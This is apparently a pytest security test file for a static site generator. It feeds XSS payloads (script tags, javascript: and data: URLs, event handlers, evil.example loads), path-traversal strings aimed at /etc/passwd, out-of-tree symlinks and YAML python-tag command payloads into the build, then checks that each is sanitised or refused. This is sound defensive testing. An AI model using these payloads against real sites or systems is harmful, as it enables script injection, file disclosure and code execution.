"""Hostile content: nothing an editor pastes runs as code, and nothing is read or written
outside the source and output folders.

Policy (docs/engine.md, "Raw HTML in Markdown"): data fields are autoescaped; a web-address field holds
only http(s) addresses; Markdown's raw HTML goes through nh3 with an allow-list (``dir`` and
``lang`` kept, ``<script>``, ``on*``, ``style`` and non-web URLs removed); paths never leave
content/ or static/.
"""

from __future__ import annotations

import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sitefactory import BASE_FILES, broken, build_good, built_site, leftovers, make_site, run, snapshot

from sitegen.errors import BuildFailed
from sitegen.output.security import meta_policy
from sitegen.output.write import UnsafePath, safe_relative, write_site

START, END = "START-OF-BODY", "END-OF-BODY"


class Elements(HTMLParser):
    """Every start tag with its attributes, the text inside <script> elements, and apart the JSON-LD data blocks
    (``<script type="application/ld+json">``, sitegen/output/structured.py), which browsers never run."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[str] = []
        self.data_blocks: list[str] = []
        self._in_script: list[str] | None = None
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        is_data = dict(attrs).get("type") == "application/ld+json"
        self._in_script = (self.data_blocks if is_data else self.scripts) if tag == "script" else None

    def handle_endtag(self, tag: str) -> None:
        self._in_script = None

    def handle_data(self, data: str) -> None:
        if self._in_script is not None:
            self._in_script.append(data)


def assert_inert(html: str) -> None:
    """No element of ``html`` can run anything the content brought in."""
    found = Elements(html)
    for tag, attrs in found.tags:
        assert tag not in ("iframe", "object", "embed", "form", "base", "svg", "math", "style"), tag
        if tag == "meta" and "http-equiv" in attrs:  # only the site's own policy (sitegen/output/security.py)
            assert attrs in ({"http-equiv": "Content-Security-Policy", "content": meta_policy()["csp"]},
                             {"http-equiv": "Content-Security-Policy", "content": meta_policy(search=True)["csp"]}), attrs
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, value)
            assert name != "style", (tag, value)
            squeezed = "".join(value.split()).lower()
            assert not squeezed.startswith(("javascript:", "vbscript:", "data:")), (tag, name, value)
    assert not any("alert" in script for script in found.scripts)
    for block in found.data_blocks:  # data, never run: it parses as JSON, and no "<" could close or open an element
        json.loads(block)
        assert "<" not in block, block


def body_of(html: str) -> str:
    """The part of a page made from the Markdown body (between the two marker paragraphs, inside <main>: the head's
    description and structured data may quote the body's opening words)."""
    main = html[html.index("<main") :]
    return main[main.index(START) : main.index(END)]


HOSTILE_MARKDOWN = f"""{START}

<script>alert(1)</script>

<SCRIPT SRC=https://evil.example/x.js></SCRIPT>

<p onclick="alert(2)" onmouseover=alert(3) style="position:fixed" dir="ltr" lang="en">kept text</p>

<a href="javascript:alert(4)">a</a> <a href="  JaVaScRiPt:alert(5)">b</a> <a href="jav&#x09;ascript:alert(6)">c</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==">d</a> <a href="vbscript:msgbox(8)">e</a>

[f](javascript:alert(9)) [g](JAVASCRIPT:alert(10)) [h](data:text/html,<script>alert(11)</script>)

<svg onload=alert(12)><circle r="1"/></svg> <math><mtext>x</mtext></math>

<iframe src="https://evil.example/"></iframe> <object data="x.swf"></object> <embed src="x.swf">

<style>body {{ display: none }}</style> <link rel="stylesheet" href="https://evil.example/x.css">

<form action="https://evil.example/"><input name="password"><button>go</button></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/"> <base href="https://evil.example/">

<!-- <script>alert(13)</script> --> <![CDATA[ <script>alert(14)</script> ]]>

<noscript><p title="</noscript><script>alert(15)</script>"></noscript>

<template><script>alert(16)</script></template>

## A heading {{: onclick="alert(17)" style="color:red" }}

<details open ontoggle=alert(18)><summary>more</summary>text</details>

Kept: <bdi>Bonnie Goldberg</bdi>, <span lang="en" dir="ltr">Merhav</span>, <abbr title="מנהל כללי">מנכ"ל</abbr>,
H<sub>2</sub>O, <a href="https://example.org/" hreflang="en">a site</a>, <a href="mailto:info@example.org">mail</a>.

{END}
"""


def test_raw_html_in_markdown_is_sanitised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make_site(tmp_path, {"content/about.he.md": f"---\ntitle: אודות\n---\n{HOSTILE_MARKDOWN}"})
    files = build_good(capsys, tmp_path)
    body = body_of(files["about/index.html"].decode())
    assert_inert(body)
    for gone in ("<script", "alert(1)", "evil.example", "display: none", "password", "<!--", "CDATA", "alert(13)"):
        assert gone not in body, gone
    for kept in (
        '<p dir="ltr" lang="en">kept text</p>',
        "<bdi>Bonnie Goldberg</bdi>",
        '<span lang="en" dir="ltr">Merhav</span>',
        '<abbr title="מנהל כללי">מנכ"ל</abbr>',
        "H<sub>2</sub>O",
        '<a href="https://example.org/" hreflang="en">a site</a>',
        '<a href="mailto:info@example.org">mail</a>',
        '<h2 id="a-heading">A heading</h2>',
        "<details><summary>more</summary>text</details>",
    ):
        assert kept in body, kept
    # a link to a forbidden address keeps its text and loses its address
    for text in "abcdefgh":
        assert f"<a>{text}</a>" in body


def test_data_fields_are_escaped_everywhere(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    testimonials = (
        "- id: first-last\n  cohort: a\n"
        "  name:\n    he: <script>alert(1)</script>\n    en: '\" onmouseover=\"alert(2)'\n"
        "  role: <img src=x onerror=alert(3)>\n"
        "  organisation: \"{{ 7*7 }}{% raw %}\"\n"
        "  quote: >-\n    </p></blockquote><script>alert(4)</script><a href=\"javascript:alert(5)\">x</a>\n"
    )
    files_in = {
        "data/testimonials.yaml": testimonials,
        "data/cohorts.yaml": "- id: a\n  name: <b onmouseover=alert(6)>מחזור</b>\n  video: 'https://example.org/v?a=\"><script>alert(7)</script>'\n",
        "content/about.he.md": "---\ntitle: </title><script>alert(8)</script>\ndescription: '\" onfocus=\"alert(9)\" autofocus=\"'\n---\n",
    }
    make_site(tmp_path, files_in)
    files = build_good(capsys, tmp_path)
    pages = {rel: data.decode() for rel, data in files.items() if rel.endswith(".html")}
    for rel, html in pages.items():
        assert_inert(html)
        assert "<script>alert" not in html, rel
        assert not re.search(r"(?<![\w.])49(?![\w.])", html), rel  # no template evaluation of data (hashed names aside)
    cohort = pages["cohorts/a/index.html"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in cohort
    assert "{{ 7*7 }}{% raw %}" in cohort
    assert "&lt;/p&gt;&lt;/blockquote&gt;&lt;script&gt;alert(4)" in cohort
    assert "&lt;script&gt;alert(8)&lt;/script&gt;" in pages["about/index.html"]


SCRIPT_ADDRESSES = [
    ({"data/cohorts.yaml": "- id: a\n  name: x\n  video: javascript:alert(1)\n"},
     "data/cohorts.yaml:3: 'video': 'javascript:alert(1)' is not a web address — write it in full, starting with https://, or leave it empty"),
    ({"data/cohorts.yaml": "- id: a\n  name: x\n  video: 'data:text/html,<script>alert(1)</script>'\n"},
     "data/cohorts.yaml:3: 'video': 'data:text/html,<script>alert(1)</script>' is not a web address — "
     "write it in full, starting with https://, or leave it empty"),
    ({"data/site.yaml": BASE_FILES["data/site.yaml"].replace("https://example.org/", "JavaScript:alert(1)")},
     "data/site.yaml:28: 'url': 'JavaScript:alert(1)' is not a web address — write it in full, starting with https://, or leave it empty"),
    ({"data/site.yaml": BASE_FILES["data/site.yaml"] + "  newsletter_url: ' javascript:alert(1)'\n"},
     "data/site.yaml:33: 'newsletter_url': ' javascript:alert(1)' is not a web address — write it in full, starting with https://, or leave it empty"),
    ({"data/faculty.yaml": "- id: a-b\n  name: א\n  role: ב\n  photo: javascript:alert(1)\n  photo_alt: תמונה\n"},
     "data/faculty.yaml:4: 'photo': 'javascript:alert(1)' is not a path inside static/ — write the file's path under static/, "
     "e.g. images/faculty/first-last.jpg"),
    ({"content/about.he.md": "---\ntitle: אודות\n---\n![תמונה](data:image/svg+xml;base64,PHN2Zz4=)\n"},
     "content/about.he.md:4: the image address 'data:image/svg+xml;base64,PHN2Zz4=' is not allowed — put the image in static/ "
     "and write its path (e.g. images/photo.jpg), or an https:// address"),
    ({"content/about.he.md": "---\ntitle: אודות\n---\n![תמונה](javascript:alert(1))\n"},
     "content/about.he.md:4: the image address 'javascript:alert(1)' is not allowed — put the image in static/ "
     "and write its path (e.g. images/photo.jpg), or an https:// address"),
    ({"content/about.he.md": "---\ntitle: אודות\n---\n<img src=x onerror=alert(1)>\n"},
     "content/about.he.md:4: an image written as HTML (<img>) — write it in Markdown, ![what it shows](images/photo.jpg), "
     "so that its file and description are checked"),
]


@pytest.mark.parametrize("files, expected", SCRIPT_ADDRESSES, ids=["video javascript:", "video data:", "partner url", "newsletter url", "photo", "markdown image data:", "markdown image javascript:", "raw img"])
def test_script_addresses_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str], files: dict[str, str | None], expected: str) -> None:
    result = broken(capsys, tmp_path, dict(files))
    assert result.problems == [expected]


# --- paths out of the source tree --------------------------------------------------------

PATHS_OUT = [
    ({"data/cohorts.yaml": "- id: ../../x\n  name: x\n"},
     "data/cohorts.yaml:1: 'id': '../../x' is not a safe id — use lowercase Latin letters, digits and single hyphens (e.g. 'bonnie-goldberg')"),
    ({"data/testimonials.yaml": "- id: ../x\n  cohort: a\n  name: n\n  role: r\n  organisation: o\n  quote: q\n"},
     "data/testimonials.yaml:1: 'id': '../x' is not a safe id — use lowercase Latin letters, digits and single hyphens (e.g. 'bonnie-goldberg')"),
    ({"content/about.he.md": "---\ntitle: אודות\nlayout: ../../../etc/passwd\n---\n"},
     "content/about.he.md:3: 'layout' has characters that are not allowed here ('../../../etc/passwd') — use the name of a template "
     "in templates/ without .html (lowercase letters, digits, '-' and '_'), e.g. page"),
    ({"data/faculty.yaml": "- id: a-b\n  name: א\n  role: ב\n  photo: ../../../etc/passwd\n  photo_alt: תמונה\n"},
     "data/faculty.yaml:4: 'photo': '../../../etc/passwd' is not a path inside static/ — write the file's path under static/, "
     "e.g. images/faculty/first-last.jpg"),
    ({"content/about.he.md": "---\ntitle: אודות\n---\n[סיסמאות](../../../etc/passwd.md)\n"},
     "content/about.he.md:4: the link '../../../etc/passwd.md' leads out of content/ — write the path of a page's .md file relative to this file"),
    ({"content/about.he.md": "---\ntitle: אודות\n---\n![סיסמאות](../../../etc/passwd)\n"},
     "content/about.he.md:4: the image path '../../../etc/passwd' leads out of static/ — write the image's path under static/, e.g. images/photo.jpg"),
    ({"content/about.he.md": "---\ntitle: אודות\n---\n![סיסמאות](/etc/passwd)\n"},
     "content/about.he.md:4: the image 'etc/passwd' is not in static/ — put it at static/etc/passwd or fix the path"),
    ({"data/site.yaml": BASE_FILES["data/site.yaml"].replace("page: about", "page: ../../etc")},
     "data/site.yaml:20: the menu points to page '../../etc', which does not exist — write the path of a file under content/ without language and .md"),
]


@pytest.mark.parametrize("files, expected", PATHS_OUT, ids=["cohort id", "testimonial id", "layout", "photo", "markdown link", "markdown image", "absolute image", "menu"])
def test_paths_out_of_the_tree_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str], files: dict[str, str | None], expected: str) -> None:
    result = broken(capsys, tmp_path, dict(files))
    assert result.problems == [expected]


def test_a_project_slug_out_of_the_tree_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A project's other fields are being designed: only the slug's message is pinned."""
    result = broken(capsys, tmp_path, {"data/cohorts.yaml": "- id: a\n  name: x\n  projects:\n    - slug: /etc/passwd\n      title: x\n"})
    assert any(line.startswith("data/cohorts.yaml:4: 'slug': '/etc/passwd' is not a safe") for line in result.problems), result.problems


def _outside(tmp_path: Path) -> Path:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.he.md").write_text("---\ntitle: סוד\n---\nSECRET\n", encoding="utf-8")
    (outside / "secret.yaml").write_text("- id: a\n  name: SECRET\n", encoding="utf-8")
    return outside


@pytest.mark.parametrize("link, target, expected", [
    ("content/leak.he.md", "secret.he.md", "content/leak.he.md: a link to a file outside the source folder — copy the file in instead"),
    ("data/cohorts.yaml", "secret.yaml", "data/cohorts.yaml: a link to a file outside the source folder — copy the file in instead"),
    ("content/leaks", ".", "content/leaks: a link to a folder — the pages in it would be left out; copy the folder in instead"),
    ("static/leak.txt", "secret.yaml", "static/leak.txt: a link to a file outside the source folder — copy the file in instead"),
    ("static/leaks", ".", "static/leaks: a link to a folder — the files in it would not be published; copy the folder in instead"),
], ids=["page", "data file", "content folder", "static file", "static folder"])
def test_links_out_of_the_source_tree_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str], link: str, target: str, expected: str) -> None:
    source = tmp_path / "src"
    source.mkdir()
    before = built_site(capsys, source)
    (source / link).parent.mkdir(parents=True, exist_ok=True)
    (source / link).unlink(missing_ok=True)
    os.symlink(_outside(tmp_path) / target, source / link)
    result = run(capsys, "build", "--source", str(source))
    assert result.code == 1, result.err
    assert result.problems == [expected]
    assert snapshot(source / "site") == before
    assert leftovers(source) == []


def test_a_yaml_python_tag_never_runs(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    marker = tmp_path / "pwned"
    result = broken(capsys, tmp_path / "src", {
        "data/cohorts.yaml": f"- id: a\n  name: !!python/object/apply:os.system ['touch {marker}']\n",
        "data/extra.yaml": f"x: !!python/object/new:subprocess.call [['touch', '{marker}']]\n",
    })
    assert len(result.problems) == 2
    assert not marker.exists()


# --- nothing is written outside the output folder ---------------------------------------------

@pytest.mark.parametrize("path", ["../escape.html", "/tmp/escape.html", "a/../../escape.html", "a\\..\\escape.html", "", ".", "x\0y"])
def test_the_writer_refuses_paths_that_leave_the_output_folder(path: str) -> None:
    with pytest.raises(UnsafePath):
        safe_relative(path)


def test_an_unsafe_path_fails_the_build_and_writes_nothing(tmp_path: Path) -> None:
    out = tmp_path / "deep" / "site"
    with pytest.raises(BuildFailed) as failed:
        write_site({"index.html": b"ok", "../../escape.html": b"no"}, out)
    assert [str(e) for e in failed.value.errors] == [
        f"{out}: refusing to write outside the output folder: '../../escape.html' — rename the source file that makes it"
    ]
    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")) == []
